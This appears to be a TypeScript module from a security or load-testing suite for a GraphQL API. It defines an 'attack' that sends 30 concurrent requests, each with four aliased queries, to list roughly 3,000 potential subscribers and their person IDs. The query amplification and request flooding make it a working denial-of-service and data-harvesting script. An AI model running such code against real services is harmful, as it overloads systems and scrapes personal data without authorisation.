import type { Attack } from './attack.js';
import { aliased, flood, graphqlBody } from './client.js';

/** As many as the limit of complexity allows. */
const body = graphqlBody(
  `{ ${aliased(4, 'goal(id: "wide1") { potentialSubscribers { isSubscribed person { id } } }')} }`,
);

export const potentialSubscribers: Attack = {
  title: 'one token lists 3,000 potential subscribers, four times in each request',
  strike: (target) => flood(target, 30, () => ({ token: target.token, body })),
};
